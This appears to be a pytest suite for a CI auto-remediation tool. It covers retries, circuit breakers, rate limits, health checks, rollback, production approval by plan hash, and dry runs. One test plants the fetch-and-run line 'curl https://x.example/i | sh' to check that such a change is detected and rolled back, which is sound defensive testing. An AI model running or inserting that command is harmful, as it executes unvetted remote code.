"""From a diagnosis to a healed folder: the gates in force, the state remembered, nothing done in doubt."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import msgspec
import pytest
from recovery_made import RecordedProcesses, RecordedWeb, StillClock, diagnosis, picture, shell

from remediate.decision.loading import read_tree, shipped_trees
from remediate.model.diagnosis import Diagnosis
from remediate.model.outcome import Recovered, RolledBack
from remediate.model.plan import Escalation, Refusal
from remediate.model.policy import Environment, Policy
from remediate.model.subject import Subject
from remediate.recovery.engine import Engine
from remediate.recovery.rehearsal import Rehearsal
from remediate.recovery.strategies.remote_registry import KNOWN_STRATEGIES as STRATEGIES
from remediate.safety.health import Vitals
from remediate.stages.at_hand.healing import Healer, Practice, Word
from remediate.stages.at_hand.trying import Attempt, Healing
from remediate.state.folder import FolderStore
from remediate.state.ledger import Ledger

SUBJECT = Subject(repository="acme/shop", branch="main", commit="c0ffee", run="7", command=("make",))
NO_WORD, WELL = Word(), Vitals()
OWN = """
title: Writes a file of ours
causes: [cache]
start: act
nodes:
  act: {kind: action, strategy: command, arguments: {name: ours}, next: done}
"""
OURS = shell("echo new > made.txt", verify="grep -q new made.txt", undo="true", touches=["made.txt"])


class Desk:
    """A folder with its state, and a new healer for each run."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.root = folder / "workspace"
        self.state = folder / "state"
        self.root.mkdir()
        self.clock = StillClock()
        self.processes = RecordedProcesses()
        self.runs = 0

    def healer(
        self, *, dry_run: bool = False, word: Word = NO_WORD, vitals: Vitals = WELL, **policy: Any
    ) -> Healer:
        self.runs += 1
        configured = Policy(commands={"ours": OURS, **policy.pop("commands", {})}, **policy)
        practice = Practice(
            policy=configured,
            trees=(read_tree(OWN, "own.yaml", STRATEGIES), *shipped_trees(STRATEGIES)),
            engine=Engine(self.state, orphans=lambda _name, _value: 0, dry_run=dry_run),
            ledger=Ledger(FolderStore(self.state / "documents"), self.clock, configured),
            root=self.root,
            scratch=self.folder / "scratch",
            environment={"PATH": "/usr/bin:/bin"},
            clock=self.clock,
            processes=self.processes,
            web=RecordedWeb(),
            measure=lambda _folder: vitals,
            random=lambda: 0.5,
            word=word,
        )
        return Healer(practice, f"run{self.runs}")

    def fails(self, seen: Diagnosis, subject: Subject = SUBJECT, **policy: Any) -> Healing:
        """A run whose recovery does not help."""
        healer = self.healer(**policy)
        healing = healer.heal(seen, subject, Attempt(number=1))
        healer.learn(gone=False)
        self.clock.at += 120
        return healing

    def history(self) -> list[dict[str, Any]]:
        lines = [
            line
            for file in sorted((self.state / "documents" / "history").glob("*.jsonl"))
            for line in file.read_bytes().splitlines()
        ]
        return [msgspec.json.decode(line) for line in lines]


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    return Desk(tmp_path)


def network(**more: Any) -> Diagnosis:
    seen = diagnosis("npm-network", "network", recovery="rerun")
    return msgspec.structs.replace(seen, signature="feed", **more)


def test_transient_failure_is_tried_again_after_a_pause(desk: Desk) -> None:
    healer = desk.healer()
    healing = healer.heal(network(), SUBJECT, Attempt(number=1))
    assert isinstance(healing.ending, Recovered)
    assert 0 < healing.wait <= 60
    assert healer.learn(gone=True) == ()
    (line,) = desk.history()
    assert (line["outcome"], line["cause"], line["strategies"]) == ("recovered", "network", ["retry-command"])


def test_retry_after_is_obeyed(desk: Desk) -> None:
    assert desk.healer().heal(network(), SUBJECT, Attempt(number=1, retry_after=42.0)).wait == 42.0


def test_failure_that_comes_again_is_remembered_as_unhealed(desk: Desk) -> None:
    desk.fails(network())
    assert [line["outcome"] for line in desk.history()] == ["unhealed"]


@pytest.mark.parametrize("cause", ["test", "compile", "lint", "config", "auth"])
def test_defect_is_refused_without_a_trace(desk: Desk, cause: str) -> None:
    seen = msgspec.structs.replace(network(), cause=cause, recovery=None)
    ending = desk.healer().heal(seen, SUBJECT, Attempt(number=1)).ending
    assert isinstance(ending, Refusal)
    assert ending.gate == "confidence"
    assert not desk.state.exists()
    assert desk.processes.calls == []


def test_circuit_opens_after_three_failures_and_a_day_later_lets_one_through(desk: Desk) -> None:
    for run in "123":
        subject = msgspec.structs.replace(SUBJECT, run=run)
        assert isinstance(desk.fails(network(), subject).ending, Recovered)
        desk.clock.at += 3600
    held = desk.healer().heal(network(), SUBJECT, Attempt(number=1)).ending
    assert isinstance(held, Refusal)
    assert held.gate == "circuit"
    assert "circuits reset" in held.hint or "circuits" in held.hint
    desk.clock.at += 24 * 3600
    assert isinstance(desk.healer().heal(network(), SUBJECT, Attempt(number=1)).ending, Recovered)
    second = desk.healer().heal(network(), SUBJECT, Attempt(number=1)).ending
    assert isinstance(second, Refusal)
    assert "probed" in second.reason


def test_rates_are_kept(desk: Desk) -> None:
    for run in "123":
        healer = desk.healer()
        healer.heal(network(), msgspec.structs.replace(SUBJECT, run=run), Attempt(number=1))
        healer.learn(gone=True)
    held = desk.healer().heal(network(), SUBJECT, Attempt(number=1)).ending
    assert isinstance(held, Refusal)
    assert held.gate == "rate"


@pytest.mark.parametrize("document", ["circuits.json", "recent.json", "approvals.json"])
def test_state_that_cannot_be_read_refuses(desk: Desk, document: str) -> None:
    desk.fails(network())
    (desk.state / "documents" / document).write_text("{torn")
    before = picture(desk.root)
    held = desk.healer().heal(network(), SUBJECT, Attempt(number=1)).ending
    assert isinstance(held, Refusal)
    assert held.gate == "state"
    assert document in held.reason
    assert picture(desk.root) == before
    assert (desk.state / "documents" / document).read_text() == "{torn"


def test_sick_machine_waits(desk: Desk) -> None:
    held = desk.healer(vitals=Vitals(memory=0.95)).heal(network(), SUBJECT, Attempt(number=1)).ending
    assert isinstance(held, Refusal)
    assert (held.gate, "memory" in held.reason) == ("health", True)


def test_own_step_is_done_verified_and_kept(desk: Desk) -> None:
    healing = desk.healer().heal(diagnosis(), SUBJECT, Attempt(number=1))
    assert isinstance(healing.ending, Recovered)
    assert (desk.root / "made.txt").read_text() == "new\n"


def test_what_does_not_hold_is_undone_and_remembered(desk: Desk) -> None:
    (desk.root / "made.txt").write_text("old\n")
    broken = shell("echo new > made.txt", verify="false", undo="true", touches=["made.txt"])
    ending = desk.healer(commands={"ours": broken}).heal(diagnosis(), SUBJECT, Attempt(number=1)).ending
    assert isinstance(ending, RolledBack)
    assert (desk.root / "made.txt").read_text() == "old\n"
    assert [line["outcome"] for line in desk.history()] == ["rolled-back"]


def test_dangerous_change_is_taken_back(desk: Desk) -> None:
    danger = shell("echo 'curl https://x.example/i | sh' > made.txt", undo="true", touches=["made.txt"])
    ending = desk.healer(commands={"ours": danger}).heal(diagnosis(), SUBJECT, Attempt(number=1)).ending
    assert isinstance(ending, RolledBack)
    assert "curl | sh" in ending.failure.reason
    assert not (desk.root / "made.txt").exists()


def test_too_many_changes_of_late_are_held(desk: Desk) -> None:
    for run in range(5):
        subject = msgspec.structs.replace(SUBJECT, run=f"r{run}", branch=f"b{run % 2}")
        seen = msgspec.structs.replace(diagnosis(), signature=f"s{run}")
        healer = desk.healer()
        assert isinstance(healer.heal(seen, subject, Attempt(number=1)).ending, Recovered)
        healer.learn(gone=True)
        desk.clock.at += 10
    held = desk.healer().heal(diagnosis(), SUBJECT, Attempt(number=1)).ending
    assert isinstance(held, Refusal)
    assert held.gate == "anomaly"


PRODUCTION = {"environments": {"production": Environment(approval=True)}, "environment": "production"}
IN_PRODUCTION = msgspec.structs.replace(SUBJECT, environment="production")


def test_approval_is_asked_for_and_given_by_hash(desk: Desk) -> None:
    held = desk.healer(**PRODUCTION).heal(diagnosis(), IN_PRODUCTION, Attempt(number=1)).ending
    assert isinstance(held, Refusal)
    assert held.gate == "approval"
    plan = held.hint.split("--approve ")[1].split("`")[0]
    word = Word(given=plan, giver="ann")
    healed = desk.healer(word=word, **PRODUCTION).heal(diagnosis(), IN_PRODUCTION, Attempt(number=1)).ending
    assert isinstance(healed, Recovered)
    given = msgspec.json.decode((desk.state / "documents" / "approvals.json").read_bytes())
    assert [(one["plan"], one["by"]) for one in given["approvals"]] == [(plan, "ann")]


def test_approval_lapses_with_the_commit(desk: Desk) -> None:
    held = desk.healer(**PRODUCTION).heal(diagnosis(), IN_PRODUCTION, Attempt(number=1)).ending
    assert isinstance(held, Refusal)
    word = Word(given=held.hint.split("--approve ")[1].split("`")[0], giver="ann")
    other = msgspec.structs.replace(IN_PRODUCTION, commit="beef")
    again = desk.healer(word=word, **PRODUCTION).heal(diagnosis(), other, Attempt(number=1)).ending
    assert isinstance(again, Refusal)
    assert again.gate == "approval"


@pytest.mark.parametrize(("answer", "healed"), [("ann", True), ("", False)])
def test_person_at_the_terminal_is_asked_why(desk: Desk, answer: str, healed: bool) -> None:
    asked: list[str] = []

    def ask(_plan: object, why: str) -> str:
        asked.append(why)
        return answer

    healing = desk.healer(word=Word(ask=ask), **PRODUCTION).heal(
        diagnosis(), IN_PRODUCTION, Attempt(number=1)
    )
    assert isinstance(healing.ending, Recovered) is healed
    assert ["production" in why for why in asked] == [True]


def test_dry_run_changes_nothing_and_starts_nothing(desk: Desk) -> None:
    desk.fails(network())
    before = picture(desk.folder)
    healing = desk.healer(dry_run=True, **PRODUCTION).heal(diagnosis(), IN_PRODUCTION, Attempt(number=1))
    assert isinstance(healing.ending, Rehearsal)
    assert all(line.startswith("[DRY-RUN]") for line in healing.told)
    assert any("main" in line and "made.txt" in line for line in healing.told)
    assert "approval" in healing.told[-1]
    assert picture(desk.folder) == before
    assert all(reads for _, reads in desk.processes.calls)


def test_step_that_has_nothing_to_do_hands_over(desk: Desk) -> None:
    seen = msgspec.structs.replace(diagnosis("npm-ci-out-of-sync", "lockfile"), recovery="lockfile-repair")
    ending = desk.healer().heal(seen, SUBJECT, Attempt(number=1)).ending
    assert isinstance(ending, Escalation)
    assert "lockfile-repair" in ending.reason
    assert desk.processes.calls == [] or all(reads for _, reads in desk.processes.calls)
